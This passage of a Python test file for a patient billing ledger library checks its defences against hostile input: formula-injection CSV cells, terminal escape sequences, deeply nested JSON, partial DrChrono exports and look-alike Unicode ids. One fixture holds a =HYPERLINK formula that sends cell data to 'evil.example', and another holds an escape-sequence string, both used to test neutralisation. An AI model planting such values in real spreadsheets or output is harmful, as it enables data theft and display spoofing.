    before = target.read_bytes()
    argv = [*NEW_JOURNAL_COMMANDS[command], "--journal", str(target)]
    assert main(argv) == 1
    out, err = capsys.readouterr()
    assert target.read_bytes() == before
    assert str(target) in err
    assert "--replace" in err
    assert "nothing was written" in err
    assert out == ""  # refused before any work
    assert main([*argv, "--replace"]) == 0
    out = capsys.readouterr().out
    assert target.read_bytes() != before
    assert "replaced" in out
    assert str(target) in out
    assert main(["verify", str(target)]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [".practice.jsonl.lock", target.name]


def test_a_file_that_appears_while_a_new_journal_is_built_is_not_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 1: the check is made again under the writer lock, just before the write."""
    target = tmp_path / "practice.jsonl"
    real = drchrono.import_records

    def slow(*args: Any, **kwargs: Any) -> Any:
        target.write_text("someone else's\n", encoding="utf-8")
        return real(*args, **kwargs)

    monkeypatch.setattr(drchrono, "import_records", slow)
    assert main(["import-drchrono", str(DRCHRONO_DATA), "--journal", str(target)]) == 1
    assert target.read_text(encoding="utf-8") == "someone else's\n"


# -- 17. import-drchrono: the exit code agrees with what was written ---------------------------


def test_an_unreconciled_drchrono_import_says_it_wrote_the_journal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 17: it exited 1 ("refused") after writing the journal; now 4, and says so."""
    folder = tmp_path / "export"
    shutil.copytree(DRCHRONO_DATA, folder)
    items = json.loads((folder / "line_items.json").read_text(encoding="utf-8"))
    first = items if isinstance(items, list) else items["results"]
    first[0]["pt_paid"] = "999.00"  # DrChrono shows money we do not have
    (folder / "line_items.json").write_text(json.dumps(items), encoding="utf-8")
    target = tmp_path / "j.jsonl"
    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == cli.EXIT_UNRECONCILED
    out = capsys.readouterr().out
    assert "the journal was written" in out
    assert "do not reconcile" in out
    assert main(["verify", str(target)]) == 0


# -- 11. text output escapes every control and line-separator character -----------------------


def test_printable_escapes_line_and_paragraph_separators() -> None:
    """Item 11: U+2028/U+2029 were printed raw (a fake table row)."""
    assert tables.printable("P1\u2028P2\u2029") == r"P1\u2028P2\u2029"
    assert tables.one_line("a\u2028b\u2029c") == "a b c"


def test_the_drchrono_summary_escapes_the_records_ids(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 11: a skipped record's id was printed raw: escape sequences, newlines, U+2028."""
    folder = tmp_path / "export"
    shutil.copytree(DRCHRONO_DATA, folder)
    page = json.loads((folder / "patient_payments.json").read_text(encoding="utf-8"))
    records = page if isinstance(page, list) else page["results"]
    evil = "7\x1b[2J\nreconciled: fake\u2028x"
    records.append(records[0] | {"id": evil, "amount": 0})  # skipped: an amount of zero
    if isinstance(page, dict):
        page["count"] = len(records)
    (folder / "patient_payments.json").write_text(json.dumps(page), encoding="utf-8")
    assert main(["import-drchrono", str(folder), "--journal", str(tmp_path / "j.jsonl")]) == 0
    out = capsys.readouterr().out
    assert r"patient_payment 7\x1b[2J\nreconciled: fake\u2028x: its amount is zero" in out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u2028\u2029]", out)
    assert out.count("reconciled:") == 2  # the escaped fake and the real one


def test_a_column_mapping_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    """Item 17: a TOML mapping saved by a Windows editor (a UTF-8 BOM) was "Invalid statement"."""
    clinic = Path(__file__).parent / "data" / "clinic" / "columns.toml"
    with_bom = tmp_path / "columns.toml"
    with_bom.write_bytes(codecs.BOM_UTF8 + clinic.read_bytes())
    assert load_mapping(with_bom) == load_mapping(clinic)
    assert load_mapping(with_bom)["charges"]["id"] == "Line"


# -- 8. compare: names that would overwrite a column ------------------------------------------


@pytest.mark.parametrize(
    ("names", "named"),
    [
        (("x", "x"), "'x'"),
        (("patient_id", "b"), "'patient_id'"),
        (("a", "change"), "'change'"),
        (("figure", "appointment_id"), "'figure', 'appointment_id'"),
    ],
)
def test_compare_refuses_names_that_overwrite_a_column(names: tuple[str, str], named: str) -> None:
    """Item 8: a repeated or reserved name silently overwrote a column of records/to_pandas."""
    before = pay(pl.Ledger.empty(), "PAY1", "10.00")
    after = pay(before, "PAY2", "5.00")
    with pytest.raises(InvalidInputError) as caught:
        pl.compare(before, after, names=names)
    assert named in str(caught.value)
    assert caught.value.details["names"] == names
    with pytest.raises(InvalidInputError):
        pl.Comparison((), names)
    with pytest.raises(InvalidInputError, match="two str"):
        pl.compare(before, after, names=("a",))  # type: ignore[arg-type]
    assert pl.compare(before, after, names=("before", "after")).records()[0]["after"] == Decimal(
        "15.00"
    )


# -- 10. CSV cells a spreadsheet would run -----------------------------------------------------

FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"P1")', "@SUM(1+1)", "+1", "-5", "=1+1"]


def test_balances_csv_neutralises_formulas_and_keeps_amounts_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 10: ids starting with = + - @ were written raw (CSV formula injection); amounts,
    negative ones included, must stay numbers."""
    ledger = pl.Ledger.empty()
    for n, pid in enumerate(FORMULA_IDS):
        ledger = pay(ledger, f"PAY{n}", "10.00", pid=pid)
    ledger = pl.add_appointment(ledger, pl.Appointment("A1", "-5", D(2025, 1, 2)))
    ledger = pl.add_charge(ledger, pl.Charge("C1", "A1", Money("25.00", "USD")))
    target = tmp_path / "j.jsonl"
    target.write_text(journal.dumps(ledger), encoding="utf-8")
    assert main(["balances", str(target), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(row["patient_id"] for row in rows) == sorted("'" + pid for pid in FORMULA_IDS)
    for row in rows:
        assert not row["patient_id"].startswith(tables.FORMULA_STARTS)
        for field in tables.DASHBOARD.fields():
            Decimal(row[field])  # every amount is a plain number
    by_id = {row["patient_id"]: row for row in rows}
    assert by_id["'-5"]["total_balance"] == "15.00"
    assert by_id["'=1+1"]["total_balance"] == "-10.00"  # a negative amount is not quoted


def test_every_text_cell_of_a_csv_row_is_spreadsheet_safe() -> None:
    """Item 10: the rule is in tables.csv_row, which every CSV the library writes uses."""
    row = tables.LINE_ITEMS
    item = pl.LineItem(
        charge_id="=C1",
        appointment_id="@A1",
        code="+99213",
        description="\tdesc",
        responsibility=Money("-1.00", "USD"),
        paid=Money("0.00", "USD"),
        balance_due=Money("-1.00", "USD"),
    )
    cells = tables.csv_row(row, item, first=["\rP1"])
    assert cells == ["'\rP1", "'=C1", "'@A1", "'+99213", "'\tdesc", "-1.00", "0.00", "-1.00"]


# -- 16. nothing a killed writer leaves outlives it -------------------------------------------

#: A command line run in a child that SIGKILLs itself when ``{module}.{function}`` is called.
KILLED_AT = """
import os, signal, sys
from patient_ledger.persist import _files
from patient_ledger.adapters import imports
from patient_ledger.cli import main

def die(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGKILL)

setattr({module}, {function!r}, die)
main(sys.argv[1:])
"""


def killed_at(module: str, function: str, argv: list[str], tmp: Path) -> int:
    """Run the command line in a child killed when ``module.function`` is called (with this
    process's own patient_ledger, and ``tmp`` as its temporary folder); its return code."""
    code = KILLED_AT.format(module=module, function=function)
    own = str(Path(pl.__file__).parent.parent)
    env = {**os.environ, "PYTHONPATH": own, "TMPDIR": str(tmp), "SQLITE_TMPDIR": str(tmp)}
    done = subprocess.run(
        [sys.executable, "-c", code, *argv], env=env, capture_output=True, check=False
    )
    return done.returncode


def test_an_import_killed_while_posting_leaves_no_spool(booked: Path, tmp_path: Path) -> None:
    """Item 16: a SIGKILLed import left its spool database (every input row) in the temporary
    folder; it is now SQLite's own temporary file, unlinked as soon as it is opened."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    visits = tmp_path / "visits.csv"
    visits.write_text(
        "visit_id,patient_id,date\n"
        + "".join(f"V{n},P{n % 7},2025-01-{n % 28 + 1:02d}\n" for n in range(20_000)),
        encoding="utf-8",
    )
    before = booked.read_bytes()
    argv = ["import", "--visits", str(visits), "--journal", str(booked)]
    assert killed_at("imports", "_post", argv, tmp) == -9
    assert list(tmp.iterdir()) == []
    assert booked.read_bytes() == before
    assert not list(tmp_path.glob(".*.tmp"))


def test_a_journal_writer_killed_before_its_rename_leaves_no_temporary_file(
    booked: Path, tmp_path: Path
) -> None:
    """Item 16: a writer killed after writing its whole new journal, before renaming it, left
    '.clinic.jsonl.<hex>.tmp' with every patient's data. It is written unnamed (O_TMPFILE)."""
    source = tmp_path / "a.csv"
    source.write_text(rows("K", 50))
    before = booked.read_bytes()
    argv = ["import-payments", str(source), "--journal", str(booked)]
    assert killed_at("_files", "_check_unchanged", argv, tmp_path) == -9
    assert booked.read_bytes() == before
    if hasattr(os, "O_TMPFILE"):
        assert not list(tmp_path.glob(".*.tmp"))


def test_the_next_writer_removes_a_dead_writers_temporary_file(
    booked: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 16: where a temporary file must have a name from the start (no O_TMPFILE) or is
    killed between naming and renaming, the next writer of the journal, holding its lock,
    removes it (only a dead writer's can be there)."""
    source = tmp_path / "a.csv"
    source.write_text(rows("K", 50))
    monkeypatch.setattr(_files, "_open_unnamed", lambda folder: None, raising=False)
    stale = tmp_path / ".clinic.jsonl.0123456789ab.tmp"
    stale.write_text("every patient's data\n", encoding="utf-8")
    kept = [tmp_path / ".clinic.jsonl.notes.tmp", tmp_path / ".other.jsonl.0123456789ab.tmp"]
    for path in kept:
        path.write_text("not a dead writer's\n", encoding="utf-8")
    assert main(["import-payments", str(source), "--journal", str(booked)]) == 0
    assert not stale.exists()
    assert all(path.exists() for path in kept)
    assert sorted(p.name for p in tmp_path.glob(".*.tmp")) == sorted(p.name for p in kept)


# == Hostile round 2 (issue 25) — DrChrono and frames =========================================

pd = pytest.importorskip("pandas")
from patient_ledger.adapters import frames  # noqa: E402 - after pandas is known to be there

#: Amount texts the CSV path refuses: every amount reader refuses them (item 7).
LOOSE = ("1.23457E+11", "1e5", "1E5", "\u0661\u0662\u0663", "1_000", " 10.00", "+5", "10.", "0x10")
BOOKED = [{"id": 1, "patient": 7, "scheduled_time": "2025-01-02T09:00:00"}]
PAID = {"id": 9, "patient": 7, "appointment": 1, "received_date": "2025-01-02"}


@pytest.mark.parametrize("text", LOOSE)
def test_drchrono_string_amounts_use_the_one_strict_parser(text: str) -> None:
    error = quick(lambda: drchrono.load(BOOKED, [], [{**PAID, "amount": text}]))
    assert isinstance(error, InvalidAmountError)
    assert str(error).startswith("patient_payment record '9': amount")


@pytest.mark.parametrize("number", ["1e5", "1E+5", "1.5e2", "100000e-2", "-1e1"])
def test_a_drchrono_json_number_with_an_exponent_is_refused_naming_record_and_field(
    number: str,
) -> None:
    parsed = drchrono.read_json(
        f'[{{"id": 9, "patient": 7, "appointment": 1, "amount": {number},'
        ' "received_date": "2025-01-02"}]'
    )
    error = quick(lambda: drchrono.load(BOOKED, [], parsed))
    assert isinstance(error, InvalidAmountError)
    assert "patient_payment record '9': amount" in str(error)
    assert "no exponent" in str(error)
    items = drchrono.read_json(
        f'[{{"id": 5, "appointment": 1, "pt_paid": 0, "balance_pt": {number}}}]'
    )
    error = quick(lambda: drchrono.load(BOOKED, items, []))
    assert "line_item record '5': balance_pt" in str(error)


def test_drchrono_decimal_values_in_exponent_form_are_refused_and_plain_ones_read() -> None:
    error = quick(lambda: drchrono.load(BOOKED, [], [{**PAID, "amount": Decimal("1E+5")}]))
    assert isinstance(error, InvalidAmountError)
    for amount in ("10.00", 10, Decimal("10.00"), 10.0, drchrono.read_json("10.00")):
        ledger = drchrono.load(BOOKED, [], [{**PAID, "amount": amount}])
        assert pl.dashboard(ledger, "7").total_paid == Money("10.00", "USD")


def clinic_frames() -> dict[str, Any]:
    return {
        "visits": pd.DataFrame(
            {"appointment_id": ["V1"], "patient_id": ["P1"], "date": ["2025-01-10"]}
        ),
        "charges": pd.DataFrame(
            {"charge_id": ["C1"], "appointment_id": ["V1"], "amount": ["40.00"]}
        ),
        "payments": pd.DataFrame(
            {
                "payment_id": ["PAY1", "PAY2"],
                "patient_id": ["P1", "P1"],
                "amount": ["10.00", "5.00"],
                "received_on": ["2025-01-11", "2025-01-12"],
                "method": ["CASH", float("nan")],
                "type": [None, float("nan")],
            },
            index=[10, 11],
        ),
    }


@pytest.mark.parametrize("text", [*LOOSE, Decimal("1.23457E+11"), Decimal("1E+5")])
def test_from_frames_amounts_use_the_one_strict_parser(text: object) -> None:
    tables = clinic_frames()
    tables["payments"] = tables["payments"].astype(object)
    tables["payments"].loc[11, "amount"] = text
    error = quick(lambda: frames.from_frames(**tables))
    assert isinstance(error, InvalidAmountError)
    assert str(error).startswith("payments row 11, column 'amount'")


def test_from_frames_reads_nan_in_an_optional_column_as_absent() -> None:
    ledger = frames.from_frames(**clinic_frames())
    methods = [e.payment.method for e in ledger.events if isinstance(e, pl.PaymentPosted)]
    assert methods == [pl.PaymentMethod.CASH, pl.PaymentMethod.OTHER]


def test_from_frames_names_table_and_row_of_any_refusal() -> None:
    tables = clinic_frames()
    tables["payments"].loc[11, "method"] = "BITCOIN"
    error = quick(lambda: frames.from_frames(**tables))
    assert isinstance(error, InvalidInputError)
    assert str(error).startswith("payments row 11: ")
    tables = clinic_frames()
    tables["charges"].loc[0, "appointment_id"] = "V404"  # refused by the command
    error = quick(lambda: frames.from_frames(**tables))
    assert isinstance(error, pl.UnknownIdError)
    assert str(error).startswith("charges row 0: ")


@pytest.mark.parametrize("flag", [True, False])
def test_from_frames_says_a_bool_amount_is_a_bool(flag: bool) -> None:
    tables = clinic_frames()
    tables["charges"]["amount"] = [flag]
    error = quick(lambda: frames.from_frames(**tables))
    assert isinstance(error, InvalidAmountError)
    assert f"charges row 0, column 'amount': {flag!r} is a bool" in str(error)
    assert "float" not in str(error)


@pytest.mark.parametrize(
    ("keyword", "value", "said"),
    [
        ("visits", [{"appointment_id": "V1"}], "visits must be a pandas DataFrame, got list"),
        ("payments", "payments.csv", "payments must be a pandas DataFrame, got str"),
        ("charges", {"amount": [1]}, "charges must be a pandas DataFrame, got dict"),
        ("ledger", "journal.jsonl", "ledger must be a Ledger, got str"),
        ("ledger", pd.DataFrame(), "ledger must be a Ledger, got DataFrame"),
    ],
)
def test_from_frames_names_what_it_was_given_instead_of_a_frame(
    keyword: str, value: object, said: str
) -> None:
    error = quick(lambda: frames.from_frames(**{keyword: value}))
    assert isinstance(error, InvalidInputError)
    assert said in str(error)


@pytest.mark.parametrize("depth", [1_000, 100_000, 3_000_000])
def test_deeply_nested_drchrono_json_is_refused_quickly(depth: int, tmp_path: Path) -> None:
    for text in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        error = quick(lambda t=text: drchrono.read_json(t), bound=2.0)
        assert isinstance(error, InvalidInputError)
        assert "nested too deeply" in str(error)
    folder = tmp_path / "export"
    folder.mkdir()
    for name in ("appointments", "line_items", "patient_payments"):
        (folder / f"{name}.json").write_text("[]")
    (folder / "line_items.json").write_text("[" * depth)
    error = quick(lambda: drchrono.load_directory(str(folder)), bound=2.0)
    assert f"{folder / 'line_items.json'}: JSON nested too deeply" in str(error)


def test_read_json_is_near_json_loads_in_time_and_memory() -> None:
    text = json.dumps(
        [
            {"id": i, "patient": i % 97, "amount": float(f"{i % 9973}.25"), "x": 1.5}
            for i in range(150_000)
        ]
    )  # about 9 MB, a number in every other token: the worst case for a number hook
    figures = {}
    for name, parse in (("json", json.loads), ("read_json", drchrono.read_json)):
        best = float("inf")
        for _ in range(3):
            start = time.process_time()
            parse(text)
            best = min(best, time.process_time() - start)
        tracemalloc.start()
        try:
            parse(text)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        figures[name] = (best, peak)
    assert figures["read_json"][0] < 2.0 * figures["json"][0], figures
    # exact Decimals (about 100 bytes against a float's 24) are the only memory beyond it
    assert figures["read_json"][1] < 2.0 * figures["json"][1], figures


def page(records: list[dict[str, Any]], **links: object) -> dict[str, Any]:
    return {"previous": None, "next": None, "data": records} | links


PAGE_1 = "https://app.drchrono.com/api/line_items?cursor=cj0xJnA9MjAyNQ"
PAGE_2 = "https://app.drchrono.com/api/line_items?cursor=cD0yMDI1"
PAGE_3 = "https://app.drchrono.com/api/line_items?cursor=cD0yMDI2"


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (page([], next=PAGE_2), f"more records follow (its last page's next is '{PAGE_2}')"),
        ({"count": 3, "next": None, "results": [{"id": 1}]}, "its count is 3 but it holds 1"),
        (page([], previous=PAGE_2), "earlier pages were not exported"),
        (
            [page([{"id": 1}], next=PAGE_2), page([{"id": 2}], previous=PAGE_1, next=PAGE_3)],
            "more records follow",
        ),
    ],
)
def test_a_partial_page_export_is_refused_unless_partial(answer: Any, said: str) -> None:
    error = quick(lambda: drchrono.records(answer, source="line_items.json"))
    assert isinstance(error, pl.IncompleteExportError)
    assert str(error).startswith(f"line_items.json is a partial export: {said}")
    assert drchrono.records(answer, partial=True) == drchrono.records(answer, partial=True)


def test_every_page_of_an_export_is_complete() -> None:
    pages = [
        {"count": 2, "previous": None, "next": PAGE_2, "results": [{"id": 1}]},
        {"count": 2, "previous": PAGE_1, "next": None, "results": [{"id": 2}]},
    ]
    assert drchrono.missing(pages) == ()
    assert drchrono.records(pages) == [{"id": 1}, {"id": 2}]
    assert drchrono.missing([{"id": 1, "next": PAGE_2}]) == ()  # records say nothing


def test_import_drchrono_refuses_a_partial_export_and_says_so_with_partial(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "export"
    shutil.copytree(Path(__file__).parent / "data" / "drchrono_v4", folder)
    items = json.loads((folder / "line_items.json").read_text())
    items[-1]["next"] = PAGE_2  # a list of pages whose last says more follow
    (folder / "line_items.json").write_text(json.dumps(items))
    target = tmp_path / "practice.jsonl"
    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == 1
    err = capsys.readouterr().err
    assert f"{folder / 'line_items.json'} is a partial export: more records follow" in err
    assert not target.exists()
    with pytest.raises(pl.IncompleteExportError):
        drchrono.import_directory(str(folder))
    assert main(["import-drchrono", str(folder), "--journal", str(target), "--partial"]) == 5
    out = capsys.readouterr().out
    assert "PARTIAL export: the figures cover only the records it holds; it lacks:" in out
    assert "  line_items.json: more records follow" in out
    assert target.exists()
    _, summary = drchrono.import_directory(str(folder), partial=True)
    assert not summary.complete
    assert summary.missing == (
        f"line_items.json: more records follow (its last page's next is '{PAGE_2}')",
    )


def hostile_corrections(n: int) -> tuple[list[Any], list[Any], list[Any]]:
    """n payments, then n corrections without parent_id, each taking all of the newest one
    left: the old search passed over every payment already taken back (n² in all)."""
    day = {"received_date": "2025-01-02"}
    payments = [{"id": i, "patient": 1, "amount": "10.00"} | day for i in range(1, n + 1)]
    taken = {"amount": "-10.00", "payment_transaction_type": "COR", "received_date": "2025-01-03"}
    return [], [], payments + [{"id": n + i, "patient": 1} | taken for i in range(1, n + 1)]


def hostile_cancellations(n: int) -> tuple[list[Any], list[Any], list[Any]]:
    """n cancelled visits of one patient, each holding a deposit: the old summary built the
    patient's whole claims feed for each (n² in all)."""
    visits = [
        {"id": i, "patient": 1, "scheduled_time": "2025-01-02", "status": "Cancelled"}
        for i in range(1, n + 1)
    ]
    deposits = [
        {"id": 10**6 + i, "patient": 1, "appointment": i, "amount": "5.00"}
        | {"received_date": "2025-01-01"}
        for i in range(1, n + 1)
    ]
    return visits, [], deposits


@pytest.mark.parametrize("build", [hostile_corrections, hostile_cancellations])
def test_drchrono_corrections_and_cancellations_cost_what_they_touch(
    build: Callable[[int], tuple[list[Any], list[Any], list[Any]]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    lists = build(2_000)
    assert sum(len(json.dumps(x)) for x in lists) > 300_000  # a few hundred KB
    calls = {"allocations": 0, "claims_feed": 0}
    for module in (drchrono_importer, drchrono_reconcile):  # where the views are called
        for name in calls:
            if not hasattr(module, name):
                continue
            view = getattr(module, name)

            def counted(*args: Any, _view: Any = view, _name: str = name) -> Any:
                calls[_name] += 1
                return _view(*args)

            monkeypatch.setattr(module, name, counted)
    start = time.process_time()
    ledger, summary = drchrono.import_records(*lists)
    elapsed = time.process_time() - start
    assert len(ledger.events) > 4_000
    assert summary.reconciled
    assert calls["allocations"] <= 3 * sum(map(len, lists)), calls  # a few per record
    assert calls["claims_feed"] <= 2, calls  # once for the reconciliation
    assert elapsed < 2.0, f"{elapsed:.2f} s"


# == Hostile round 2 — second pass ==============================================================
# The verifier's re-test of issue 25 on main: each finding it still reproduced.

DRCHRONO_V4 = Path(__file__).parent / "data" / "drchrono_v4"
PAYMENTS_URL = "https://app.drchrono.com/api/patient_payments"


def v4_export(tmp_path: Path) -> Path:
    folder = tmp_path / "export"
    shutil.copytree(DRCHRONO_V4, folder)
    return folder


def payment_pages(folder: Path, *cuts: tuple[str | None, str | None, int, int]) -> list[int]:
    """Rewrite the export's payments as pages (previous, next, first record, last record)."""
    answer = json.loads((folder / "patient_payments.json").read_text())
    records = drchrono.records(answer)
    pages = [
        {"previous": previous, "next": after, "data": records[first:last]}
        for previous, after, first, last in cuts
    ]
    (folder / "patient_payments.json").write_text(json.dumps(pages))
    return [record["id"] for record in records]


# -- 3. pages that do not chain: a page dropped from the middle ---------------------------------


def test_a_page_dropped_from_the_middle_of_a_drchrono_export_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Page 1's next and page 3's previous both name page 2, which is not in the file: the
    export was imported "reconciled", exit 0, without page 2's payments."""
    folder = v4_export(tmp_path)
    cursor = f"{PAYMENTS_URL}?cursor=2"
    payment_pages(folder, (None, cursor, 0, 1), (cursor, None, 2, 99))  # records 1 dropped
    target = tmp_path / "j.jsonl"
    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == 1
    err = capsys.readouterr().err
    assert f"{folder / 'patient_payments.json'} is a partial export" in err
    assert "a page is missing between pages 1 and 2" in err
    assert not target.exists()
    assert main(["import-drchrono", str(folder), "--journal", str(target), "--partial"]) == 5
    assert "a page is missing between pages 1 and 2" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("links", "said"),
    [
        # page numbers: page 1 says page 2 is next; page 4 says page 3 is before it
        ([(None, "?page=2"), ("?page=3", None)], "2 pages are missing between pages 1 and 2"),
        # offsets: page 1 (offset 0) says offset 2 is next; the next page says offset 2 before
        ([(None, "?limit=2&offset=2"), ("?limit=2&offset=2", None)], "a page is missing"),
        ([(None, "?limit=2&offset=2"), ("?limit=2&offset=4", None)], "2 pages are missing"),
        ([(None, "?page=3"), ("?page=1", None)], "out of order or repeated"),
    ],
)
def test_pages_that_do_not_chain_are_a_partial_export(
    links: list[tuple[str | None, str | None]], said: str
) -> None:
    pages = [
        drchrono_page([{"id": n}], previous, after, PAYMENTS_URL)
        for n, (previous, after) in enumerate(links)
    ]
    error = quick(lambda: drchrono.records(pages, source="patient_payments.json"))
    assert isinstance(error, pl.IncompleteExportError)
    assert said in str(error)
    assert said in "; ".join(drchrono.missing(pages))
    assert len(drchrono.records(pages, partial=True)) == len(pages)


def drchrono_page(
    records: list[dict[str, Any]], previous: str | None, after: str | None, address: str
) -> dict[str, Any]:
    return {
        "previous": None if previous is None else address + previous,
        "next": None if after is None else address + after,
        "data": records,
    }


@pytest.mark.parametrize(
    "links",
    [
        [(None, "?cursor=2"), ("?cursor=1", "?cursor=3"), ("?cursor=2", None)],
        [(None, "?page=2"), ("", "?page=3"), ("?page=2", None)],  # page 1's address: no page=
        [
            (None, "?limit=2&offset=2"),
            ("?limit=2", "?limit=2&offset=4"),
            ("?limit=2&offset=2", None),
        ],
        [(None, "?cursor=cD0x"), ("?cursor=cj0xJnA9Mg", None)],  # opaque cursors
    ],
)
def test_pages_that_chain_are_a_whole_export(links: list[tuple[str | None, str | None]]) -> None:
    pages = [
        drchrono_page([{"id": n}], previous, after, PAYMENTS_URL)
        for n, (previous, after) in enumerate(links)
    ]
    assert drchrono.missing(pages) == ()
    assert [r["id"] for r in drchrono.records(pages)] == list(range(len(pages)))


@pytest.mark.parametrize(
    ("pages", "said"),
    [
        (
            [
                drchrono_page([{"id": 1}], None, None, ""),
                drchrono_page([{"id": 2}], None, None, ""),
            ],
            "page 1's next is null, yet a page follows it",
        ),
        (
            [
                drchrono_page([{"id": 1}], None, "?cursor=2", PAYMENTS_URL),
                drchrono_page([{"id": 2}], None, None, PAYMENTS_URL),
            ],
            "page 2's previous is null, yet a page comes before it",
        ),
        ({"count": "4", "previous": None, "next": None, "data": [{"id": 1}]}, "count is '4'"),
        ({"count": 4.0, "previous": None, "next": None, "data": [{"id": 1}]}, "count is 4.0"),
        ({"count": True, "previous": None, "next": None, "data": [{"id": 1}]}, "count is True"),
        ({"count": -1, "previous": None, "next": None, "data": [{"id": 1}]}, "count is -1"),
    ],
)
def test_pages_that_contradict_themselves_are_refused_even_as_partial(
    pages: Any, said: str
) -> None:
    """A page's count of "4" (a string) with 3 records was ignored: the export passed as whole."""
    for partial in (False, True):
        error = quick(lambda p=partial: drchrono.records(pages, partial=p, source="x.json"))
        assert type(error) is InvalidInputError
        assert str(error).startswith("x.json: ")
        assert said in str(error)


def test_a_string_count_in_an_export_folder_names_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = v4_export(tmp_path)
    answer = json.loads((folder / "patient_payments.json").read_text())
    answer["count"] = str(len(answer["data"]) + 1)
    (folder / "patient_payments.json").write_text(json.dumps(answer))
    target = tmp_path / "j.jsonl"
    assert main(["import-drchrono", str(folder), "--journal", str(target), "--partial"]) == 1
    err = capsys.readouterr().err
    assert f"{folder / 'patient_payments.json'}: page 1's count is '" in err
    assert not target.exists()


# -- 9. ids that print as something else: default-ignorable code points -------------------------

IGNORABLES = [
    0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180F, 0x200B, 0x200F,
    0x202A, 0x202E, 0x2060, 0x206F, 0x2800, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF0,
    0xFFF8, 0x1BCA0, 0x1BCA3, 0x1D173, 0x1D17A, 0xE0000, 0xE0001, 0xE0FFF,
]  # fmt: skip


@pytest.mark.parametrize("code_point", IGNORABLES)
def test_an_id_holding_a_default_ignorable_code_point_is_refused(code_point: int) -> None:
    """'P1\\u3164', 'P1\\u034f', 'P1\\ufe0f', 'P1\\u115f', 'P1\\uffa0', 'P1\\u17b4' and
    'P1\\u2800' were accepted and printed as P1."""
    with pytest.raises(InvalidInputError):  # only the character: blank, or that character
        pl.Appointment("A1", chr(code_point), D(2025, 1, 2))
    for look_alike in (f"P1{chr(code_point)}", f"P{chr(code_point)}1"):
        with pytest.raises(InvalidInputError) as caught:
            pl.Appointment("A1", look_alike, D(2025, 1, 2))
        assert repr(look_alike) in str(caught.value)
        assert f"U+{code_point:04X}" in str(caught.value)
        assert caught.value.details["code_point"] == code_point


def test_check_id_on_a_plain_ascii_id_stays_fast() -> None:
    """The ignorable check costs an ASCII id one flag read (``str.isascii``)."""
    from patient_ledger.values import check_id

    ids = [f"PAT-{n:08d}" for n in range(200)]
    best = float("inf")
    for _ in range(5):
        start = time.perf_counter()
        for _ in range(100):
            for key in ids:
                check_id(key, "id")
        best = min(best, time.perf_counter() - start)
    assert best / 20_000 < 2e-6, f"{best / 20_000 * 1e9:.0f} ns an id"


# -- 6. a repeated key in a DrChrono record ------------------------------------------------------


def test_a_repeated_key_in_a_drchrono_record_is_refused_naming_file_record_and_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """'"amount": 200.00, "amount": 2000.00' imported the last value silently."""
    folder = v4_export(tmp_path)
    path = folder / "patient_payments.json"
    text = path.read_text()
    first = drchrono.records(json.loads(text))[0]
    amount = re.search(r'"amount": ([0-9.]+)', text)
    assert amount is not None
    path.write_text(text[: amount.end()] + ', "amount": 2000.00' + text[amount.end() :])
    target = tmp_path / "j.jsonl"
    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == 1
    err = capsys.readouterr().err
    assert f"{path}: record {first['id']!r} has the key 'amount' twice" in err
    assert not target.exists()


@pytest.mark.parametrize(
    "text",
    [
        '[{"id": 1, "amount": 200.00, "amount": 2000.00}]',
        '{"previous": null, "next": null, "next": "x", "data": []}',
        '[{"previous": null, "next": null, "data": [{"id": 1, "a": 1, "a": 1}]}]',
        b'[{"id": 1, "note": "09:00", "t": "a\\u003ab", "t": 2}]',  # an escaped colon
        '[{"id": 1, "x": {"y": 1, "y": 2}}]',
    ],
)
def test_read_json_refuses_a_repeated_key(text: str | bytes) -> None:
    error = quick(lambda: drchrono.read_json(text))
    assert "twice" in str(error)


def test_read_json_keeps_colons_in_strings_and_escapes() -> None:
    text = '[{"id": 1, "t": "2025-01-22T09:12:00", "u": "a\\u003ab", "k:": "::"}]'
    assert drchrono.read_json(text) == [
        {"id": 1, "t": "2025-01-22T09:12:00", "u": "a:b", "k:": "::"}
    ]
    assert drchrono.read_json(text.encode()) == drchrono.read_json(text)


# -- 4, 5, 6. from_frames: repeated columns, repeated ids, strict dates --------------------------

pd = pytest.importorskip("pandas")
VISITS = {"appointment_id": ["A1"], "patient_id": ["P1"], "date": ["2025-03-01"]}


def test_from_frames_refuses_two_columns_of_one_name() -> None:
    """Two 'amount' columns: the last was posted."""
    from patient_ledger.adapters import frames

    payments = pd.DataFrame(
        [["T1", "P1", "5.00", "2025-03-02", "9.00"]],
        columns=["payment_id", "patient_id", "amount", "received_on", "amount"],
    )
    error = quick(lambda: frames.from_frames(pd.DataFrame(VISITS), payments=payments))
    assert isinstance(error, InvalidInputError)
    assert "payments has two columns that are one name, 'amount' and 'amount'" in str(error)
    for columns, said in (
        (
